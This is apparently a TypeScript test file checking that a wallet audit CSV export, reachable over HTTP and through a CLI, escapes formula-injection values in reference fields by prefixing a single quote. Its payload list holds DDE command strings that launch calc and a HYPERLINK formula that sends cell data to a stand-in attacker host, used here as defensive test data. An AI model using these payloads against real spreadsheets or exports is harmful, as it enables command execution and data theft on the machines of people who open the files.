import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../../support/run-cli';
import { SANDBOX_PHONES, TEST_ADMIN_TOKEN, TestService } from '../../support/test-service';
import { SERVICE_START_TIMEOUT_MS } from '../../support/timeouts';

/** An RFC 4180 reader: quoted fields, doubled quotes, CRLF rows. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else field += char;
  }
  return rows;
}

/**
 * A partner's reference and an operator's credit reference end up in the wallet audit's CSV,
 * which finance opens in a spreadsheet: whatever they start with, they arrive as text.
 */
describe('the wallet audit CSV is safe to open in a spreadsheet', () => {
  let service: TestService;
  let scratch: string;

  beforeAll(async () => {
    service = await TestService.start({ store: 'postgres' });
    scratch = mkdtempSync(join(tmpdir(), 'csv-injection-'));
  }, SERVICE_START_TIMEOUT_MS);
  afterAll(async () => {
    await service.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  const PAYLOADS = [
    "-1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '@SUM(1+1)',
  ];

  it('escapes references starting with =, +, - or @ as OWASP says, over HTTP and through the CLI', async () => {
    const { partnerId, sandboxKey } = await service.createPartner('IN');
    for (const [index, reference] of PAYLOADS.entries()) {
      const placed = await service.topup(
        sandboxKey,
        { operator_id: 101, phone: SANDBOX_PHONES.IN('0001'), amount: 10, reference },
        `csv-injection-${index}`,
      );
      expect(placed.status).toBe(200);
    }
    const credit = await service.admin('POST', `/partners/${partnerId}/wallet-credits`, {
      environment: 'sandbox',
      amount: '5.00',
      reference: '=1+1',
    });
    expect(credit.status).toBe(200);
    await service.settle();

    const direct = await service.admin('GET', `/audit/wallets/${partnerId}/sandbox?format=csv`);
    expect(direct.status).toBe(200);
    const cli = await runCli(['audit', 'wallet', partnerId, '--environment', 'sandbox', '--format', 'csv'], {
      SERVICE_URL: service.url,
      ADMIN_TOKEN: TEST_ADMIN_TOKEN,
      DATA_DIR: join(scratch, 'no-data-here'),
    });
    expect(cli.code).toBe(0);
    for (const text of [direct.text, cli.stdout]) {
      // Every formula payload sits in its cell behind a single quote, and the raw text never starts a cell.
      for (const payload of [...PAYLOADS, '=1+1']) {
        expect(text).toContain(`"'${payload.replace(/"/g, '""')}"`);
        expect(text).not.toMatch(new RegExp(`(^|,)${payload.slice(0, 3).replace(/[|+()'=@"-]/g, '\\$&')}`, 'm'));
      }
      const [header, ...rows] = csvRows(text);
      const reference = header.indexOf('reference');
      const signed = header.indexOf('signed_amount');
      const cells = rows.map((row) => row[reference]);
      expect(cells).toEqual(expect.arrayContaining([...PAYLOADS, '=1+1'].map((payload) => `'${payload}`)));
      // Amounts stay numbers a spreadsheet can add up: a debit's negative amount is not escaped.
      expect(rows.map((row) => row[signed])).toContain('-10.00');
    }
  });
});
